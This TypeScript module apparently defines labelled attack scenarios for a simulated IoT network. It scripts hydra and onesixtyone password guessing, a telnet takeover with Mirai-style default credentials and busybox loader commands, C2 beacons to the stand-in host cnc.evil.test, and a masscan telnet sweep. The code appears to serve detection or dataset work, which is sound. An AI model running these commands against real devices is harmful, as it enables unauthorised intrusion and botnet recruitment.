// Passwords are guessed, the camera is taken, and becomes a bot: it reports, searches and guesses.

import { setTimeout as sleep } from 'node:timers/promises'

import { deviceNamed, gateway } from '../devices.ts'
import { quietWeb, wordList } from '../label.ts'
import type { Attack } from '../label.ts'
import { program } from '../services.ts'

const at = (name: string): string => deviceNamed(name).ipv4
const guesses = ['root:root', 'admin:1234', 'root:888888', 'root:xc3511', 'admin:password']
const loader = ['enable', 'system', 'shell', 'sh', '/bin/busybox ECCHI', 'cat /proc/mounts', 'exit']

const guessing: Attack[] = [
  {
    id: 'snmp-guess',
    class: 'brute-force',
    technique: 'T1110.001',
    what: 'guesses six communities of the printer',
    source: 'mallory',
    destination: 'printer',
    command: (network) => {
      const words = ['private', 'admin', 'manager', 'cisco', 'secret', 'public']
      const list = wordList(network, words)
      return network.run('mallory', ['onesixtyone', '-c', list, at('printer')])
    },
  },
  {
    id: 'http-guess',
    class: 'brute-force',
    technique: 'T1110.001',
    what: 'guesses HTTP basic passwords of the camera with hydra',
    source: 'mallory',
    destination: 'camera',
    command: (network) => {
      const words = ['123456', 'password', '888888', 'root', 'user', '1111', 'camera', 'pass']
      const list = wordList(network, [...words, '4321', '9999', 'tech', 'admin', '12345'])
      const target = ['-s', '80', at('camera'), 'http-get', '/']
      return network.run('mallory', [
        'hydra',
        '-I',
        '-l',
        'admin',
        '-P',
        list,
        '-t',
        '2',
        ...target,
      ])
    },
  },
  {
    id: 'ssh-guess',
    class: 'brute-force',
    technique: 'T1110.001',
    what: 'guesses SSH passwords of the recorder with hydra',
    source: 'mallory',
    destination: 'recorder',
    command: (network) => {
      const words = [
        '123456',
        'password',
        'xmhdipc',
        'juantech',
        'klv123',
        'dvr',
        'hi3518',
        'jvbzd',
      ]
      const list = wordList(network, words)
      const target = ['-t', '2', at('recorder'), 'ssh']
      return network.run('mallory', ['hydra', '-I', '-l', 'root', '-P', list, ...target], 25_000)
    },
  },
  {
    id: 'telnet-takeover',
    class: 'exploit',
    technique: 'T1078.001',
    what: 'logs in to the camera with its default password and types what a loader types',
    source: 'mallory',
    destination: 'camera',
    command: program('telnet.ts', at('camera'), 'root:12345', ...loader),
  },
]

const botnet: Attack[] = [
  {
    id: 'c2-beacon',
    class: 'command-and-control',
    technique: 'T1571',
    what: 'the infected camera reports every 8 seconds to TCP 48101',
    source: 'camera',
    destination: '203.0.113.66',
    command: program('beacon.ts', 'cnc.evil.test', '48101', '14', '8'),
    timeLimitSeconds: 120,
    isConcurrent: true,
  },
  {
    id: 'telnet-brute-force',
    class: 'brute-force',
    technique: 'T1110.001',
    what: 'the infected camera guesses telnet passwords of the recorder until one opens',
    source: 'camera',
    destination: 'recorder',
    command: program('telnet.ts', at('recorder'), [...guesses, 'root:vizxv'].join(), ...loader),
    timeLimitSeconds: 45,
  },
  {
    id: 'telnet-sweep',
    class: 'lateral-movement',
    technique: 'T1046',
    what: 'the infected camera looks for telnet outside',
    source: 'camera',
    destination: '203.0.113.0/24',
    command: [
      ...['masscan', '--rate', '150', '--wait', '2', '-e', 'eth0', '-p23,2323'],
      ...['--adapter-ip', at('camera'), '--router-mac', gateway.mac],
      ...['203.0.113.0/24', '--exclude', '203.0.113.1'],
    ],
  },
  {
    id: 'http-beacon',
    class: 'command-and-control',
    technique: 'T1071.001',
    what: 'the infected camera reports over HTTP with waits that vary',
    source: 'camera',
    destination: '203.0.113.66',
    command: async (network) => {
      for (const seconds of [3, 4, 2, 5, 3, 4, 3, 4, 5, 3]) {
        await network.run('camera', [...quietWeb, 'http://cnc.evil.test:8080/b?id=IPCAM-4C21'])
        await sleep(seconds * 1000)
      }
      return 0
    },
  },
]

export const takeover: Attack[] = [...guessing, ...botnet]
